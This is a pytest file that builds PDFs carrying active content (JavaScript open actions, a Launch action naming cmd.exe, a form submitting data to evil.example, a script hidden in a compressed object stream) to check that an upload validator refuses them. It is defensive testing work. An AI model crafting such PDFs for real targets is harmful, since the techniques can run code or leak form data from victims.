"""PDF active content: a corpus of real PDFs (pypdf writer, or bytes built by hand for an
object stream) carrying scripts, automatic actions, data-sending forms, launchers,
multimedia or attachments in every place a viewer looks, each refused by `check_file`;
and ordinary PDFs (links, a form without actions, an image, cycles in the page tree) that
still pass."""

from __future__ import annotations

import io
import time
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from ecandidat_app.core import files
from ecandidat_app.core.errors import DomainError


def _n(name: str) -> NameObject:
    return NameObject(name)


def _action(kind: str, **extra: object) -> DictionaryObject:
    d = DictionaryObject({_n("/S"): _n(kind)})
    for key, value in extra.items():
        d[_n(f"/{key}")] = value
    return d


def _js() -> DictionaryObject:
    return _action("/JavaScript", JS=TextStringObject("app.alert('x');"))


def _write(build: Callable[[PdfWriter], None]) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    build(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _annotation(writer: PdfWriter, subtype: str, **extra: object) -> DictionaryObject:
    annot = DictionaryObject(
        {
            _n("/Type"): _n("/Annot"),
            _n("/Subtype"): _n(subtype),
            _n("/Rect"): ArrayObject(
                [FloatObject(10), FloatObject(10), FloatObject(50), FloatObject(50)]
            ),
        }
    )
    for key, value in extra.items():
        annot[_n(f"/{key}")] = value
    page = writer.pages[0]
    page[_n("/Annots")] = ArrayObject([writer._add_object(annot)])
    return annot


def _form_field(writer: PdfWriter, **extra: object) -> None:
    field = _annotation(writer, "/Widget", FT=_n("/Tx"), T=TextStringObject("nom"), **extra)
    ref = writer.pages[0]["/Annots"][0]
    field[_n("/P")] = writer.pages[0].indirect_reference
    writer._root_object[_n("/AcroForm")] = DictionaryObject({_n("/Fields"): ArrayObject([ref])})


def _names_tree(writer: PdfWriter, tree: str, value: DictionaryObject) -> None:
    writer._root_object[_n("/Names")] = DictionaryObject(
        {
            _n(tree): DictionaryObject(
                {_n("/Names"): ArrayObject([TextStringObject("a"), writer._add_object(value)])}
            )
        }
    )


ACTIVE: dict[str, Callable[[], bytes]] = {
    "open action JavaScript": lambda: _write(
        lambda w: w._root_object.__setitem__(_n("/OpenAction"), w._add_object(_js()))
    ),
    "catalog additional actions": lambda: _write(
        lambda w: w._root_object.__setitem__(_n("/AA"), DictionaryObject({_n("/WC"): _js()}))
    ),
    "page additional actions (GoTo on open, no script)": lambda: _write(
        lambda w: w.pages[0].__setitem__(
            _n("/AA"),
            DictionaryObject({_n("/O"): _action("/GoTo", D=ArrayObject([NumberObject(0)]))}),
        )
    ),
    "JavaScript name tree": lambda: _write(lambda w: _names_tree(w, "/JavaScript", _js())),
    "link annotation running JavaScript": lambda: _write(
        lambda w: _annotation(w, "/Link", A=_js())
    ),
    "link annotation launching a program": lambda: _write(
        lambda w: _annotation(w, "/Link", A=_action("/Launch", F=TextStringObject("cmd.exe")))
    ),
    "annotation additional actions": lambda: _write(
        lambda w: _annotation(w, "/Link", AA=DictionaryObject({_n("/E"): _action("/URI")}))
    ),
    "form field submitting data": lambda: _write(
        lambda w: _form_field(
            w, A=_action("/SubmitForm", F=TextStringObject("https://evil.example/"))
        )
    ),
    "form field importing data": lambda: _write(
        lambda w: _form_field(w, A=_action("/ImportData", F=TextStringObject("data.fdf")))
    ),
    "form field keystroke script": lambda: _write(
        lambda w: _form_field(w, AA=DictionaryObject({_n("/K"): _js()}))
    ),
    "rich media annotation": lambda: _write(lambda w: _annotation(w, "/RichMedia")),
    "file attachment annotation": lambda: _write(lambda w: _annotation(w, "/FileAttachment")),
    "embedded file (attachment)": lambda: _write(lambda w: w.add_attachment("notes.txt", b"hello")),
    "script hidden in an object stream": lambda: _object_stream_pdf(
        b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    ),
}


def _object_stream_pdf(hidden: bytes) -> bytes:
    """A PDF 1.5 whose open action (object 4) lives in a compressed object stream (5),
    found only through a cross-reference stream (6)."""
    header = b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n"
    plain = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    out = bytearray(header)
    offsets = {}
    for num, body in enumerate(plain, start=1):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + body + b"\nendobj\n"
    prefix = b"4 0 "
    data = zlib.compress(prefix + hidden)
    offsets[5] = len(out)
    out += (
        b"5 0 obj\n<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(prefix), len(data))
        + data
        + b"\nendstream\nendobj\n"
    )
    xref_at = len(out)
    rows = [b"\x00" + (0).to_bytes(4, "big") + b"\xff\xff"]
    rows += [b"\x01" + offsets[n].to_bytes(4, "big") + b"\x00\x00" for n in (1, 2, 3)]
    rows.append(b"\x02" + (5).to_bytes(4, "big") + b"\x00\x00")  # object 4: in stream 5
    rows.append(b"\x01" + offsets[5].to_bytes(4, "big") + b"\x00\x00")
    rows.append(b"\x01" + xref_at.to_bytes(4, "big") + b"\x00\x00")
    table = b"".join(rows)
    out += (
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % len(table)
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    )
    return bytes(out)


def _image_pdf(width: int = 400, height: int = 300, quality: int = 85) -> bytes:
    import os

    from PIL import Image

    img = Image.frombytes("RGB", (width, height), os.urandom(width * height * 3))
    out = io.BytesIO()
    img.save(out, "PDF", quality=quality)
    return out.getvalue()


ORDINARY: dict[str, Callable[[], bytes]] = {
    "blank page": lambda: _write(lambda _w: None),
    "web link": lambda: _write(
        lambda w: _annotation(
            w, "/Link", A=_action("/URI", URI=TextStringObject("https://www.univ.example/"))
        )
    ),
    "internal link": lambda: _write(
        lambda w: _annotation(w, "/Link", Dest=ArrayObject([w.pages[0].indirect_reference]))
    ),
    "form without actions": lambda: _write(lambda w: _form_field(w)),
    "scanned image": _image_pdf,
    "object stream without script": lambda: _object_stream_pdf(
        b"<< /Type /Action /S /URI /URI (https://www.univ.example/) >>"
    ),
}


def _check(tmp_path: Path, data: bytes) -> str:
    path = tmp_path / "piece.pdf"
    path.write_bytes(data)
    return files.check_file(path)


@pytest.mark.parametrize("case", sorted(ACTIVE))
def test_active_pdf_is_refused(tmp_path: Path, case: str) -> None:
    with pytest.raises(DomainError) as refused:
        _check(tmp_path, ACTIVE[case]())
    assert refused.value.message == files.ACTIVE_PDF


@pytest.mark.parametrize("case", sorted(ORDINARY))
def test_ordinary_pdf_passes(tmp_path: Path, case: str) -> None:
    assert _check(tmp_path, ORDINARY[case]()) == files.PDF


@pytest.mark.usefixtures("tmp_path")
def test_object_stream_corpus_is_read_through_the_stream() -> None:
    """The hand-built file is a valid PDF whose action pypdf finds in the object stream:
    otherwise the refusal above would prove nothing."""
    from pypdf import PdfReader

    reader = PdfReader(io.BytesIO(ACTIVE["script hidden in an object stream"]()), strict=True)
    assert reader.trailer["/Root"]["/OpenAction"]["/S"] == "/JavaScript"
    assert len(reader.pages) == 1


def test_too_many_objects_is_refused_not_walked_forever(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(files, "MAX_PDF_OBJECTS", 5)
    with pytest.raises(DomainError) as refused:
        _check(tmp_path, ORDINARY["form without actions"]())
    assert refused.value.message == files.COMPLEX_PDF


def test_check_time_of_a_10_mb_pdf(tmp_path: Path) -> None:
    """Measured, not asserted against a clock: a 10 MB scan and a 10 MB, 1,500-page text
    PDF (many objects) are checked whole; the figures are printed for the report."""
    scan = _image_pdf(3300, 2600, quality=95)
    writer = PdfWriter()
    filler = TextStringObject("x" * 6000)
    for _ in range(1500):
        page = writer.add_blank_page(width=595, height=842)
        page[_n("/PieceInfo")] = DictionaryObject({_n("/Data"): filler})
    out = io.BytesIO()
    writer.write(out)
    for label, data in (("scan", scan), ("1500 pages", out.getvalue())):
        start = time.perf_counter()
        assert _check(tmp_path, data) == files.PDF
        print(f"{label}: {len(data) / 1e6:.1f} MB checked in {time.perf_counter() - start:.2f} s")
